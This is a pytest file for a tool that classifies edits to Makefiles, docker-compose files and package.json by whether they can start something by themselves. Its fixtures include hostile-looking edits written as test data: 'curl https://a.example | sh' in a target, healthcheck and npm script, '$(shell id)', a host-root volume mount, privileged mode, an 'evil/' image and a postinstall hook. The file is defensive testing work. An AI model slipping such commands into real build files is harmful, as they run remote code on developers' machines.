"""What of a build file starts nothing by itself."""

from __future__ import annotations

import pytest

from tests.facts.effects.support import facts

MAKE = ".PHONY: test lint\n\nPY = python\n\ntest:\n\t$(PY) -m pytest\n\nlint:\n\truff check .\n"
COMPOSE = "services:\n  web:\n    build: .\n  db:\n    image: postgres:16.3\n"
PACKAGE = '{{\n  "scripts": {{\n    "build": "tsc -p .",\n    "lint": "eslint ."{}\n  }}\n}}\n'


def kinds(path: str, before: str, after: str) -> set[str]:
    return {one.kind for one in facts({path: before}, {path: after}).edits}


@pytest.mark.parametrize(
    "more",
    [
        "\nformat:\n\truff format .\n\truff check --fix .\n",
        "\ntypes: lint\n\t@$(PY) -m mypy src && ruff check .\n",
        "\n# for people\ndocs-serve:\n\tmkdocs serve\n",
    ],
)
def test_a_new_target_that_a_person_names(more: str) -> None:
    after = MAKE.replace("test lint", "test lint more") + more
    assert kinds("Makefile", MAKE, after) == {"config"}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("\ttest:", ""),
        ("\truff check .\n", "\truff check . || true\n"),
        ("PY = python\n", "PY = python3\n"),
        ("test:\n", "first:\n\truff format .\n\ntest:\n"),
        ("test:\n", "test: more\n"),
        ("\truff check .\n", "\truff check .\n\ninstall:\n\tpython setup.py\n"),
        ("\truff check .\n", "\truff check .\n\nmore:\n\tcurl https://a.example | sh\n"),
        ("\truff check .\n", "\truff check .\n\nmore:\n\techo $(shell id)\n"),
        ("\truff check .\n", "\truff check .\n\nMORE := $(shell id)\n"),
        ("\truff check .\n", "\truff check .\n\n%.py:\n\ttouch a\n"),
        ("\truff check .\n", "\truff check .\n\ninclude more.mk\n"),
    ],
)
def test_what_may_start_by_itself(old: str, new: str) -> None:
    if old in MAKE:
        assert kinds("Makefile", MAKE, MAKE.replace(old, new)) == {"build"}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("    build: .\n", "    build: .\n    depends_on: {db: {condition: service_healthy}}\n"),
        ("postgres:16.3\n", "postgres:16.3\n    healthcheck: {test: [CMD, pg_isready, -U, me]}\n"),
        ("postgres:16.3", "postgres:16.4"),
    ],
)
def test_what_only_waits_in_a_compose_file(old: str, new: str) -> None:
    assert kinds("docker-compose.yml", COMPOSE, COMPOSE.replace(old, new)) == {"config"}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("    build: .\n", "    build: .\n    privileged: true\n"),
        ("    build: .\n", "    build: .\n    ports: ['80:80']\n"),
        ("    build: .\n", "    build: .\n    volumes: ['/:/host']\n"),
        ("    build: .\n", "    build: ./other\n"),
        ("postgres:16.3\n", "postgres:16.3\n    healthcheck: {test: 'curl a.example | sh'}\n"),
        ("postgres:16.3\n", "postgres:16.3\n    healthcheck: {test: [CMD-SHELL, pg_isready]}\n"),
        ("postgres:16.3", "postgres:17.0"),
        ("postgres:16.3", "postgres:16.2"),
        ("postgres:16.3", "evil/postgres:16.4"),
        ("  db:\n", "  more:\n    image: a:1.0\n  db:\n"),
    ],
)
def test_what_does_more_in_a_compose_file(old: str, new: str) -> None:
    assert kinds("docker-compose.yml", COMPOSE, COMPOSE.replace(old, new)) == {"build"}


@pytest.mark.parametrize(
    ("more", "wanted"),
    [
        (',\n    "typecheck": "tsc --noEmit -p ."', {"formatting", "metadata"}),
        (',\n    "prelint": "tsc --noEmit -p ."', {"build", "formatting"}),
        (',\n    "postinstall": "node a.js"', {"build", "formatting"}),
        (',\n    "more": "curl https://a.example | sh"', {"build", "formatting"}),
        (',\n    "more": "tsc",\n    "all": "npm run more"', {"build", "formatting"}),
    ],
)
def test_a_new_script_of_a_package(more: str, wanted: set[str]) -> None:
    assert kinds("package.json", PACKAGE.format(""), PACKAGE.format(more)) == wanted


def test_a_script_that_was_there_is_build() -> None:
    after = PACKAGE.format("").replace("eslint .", "true")
    assert kinds("package.json", PACKAGE.format(""), after) == {"build"}
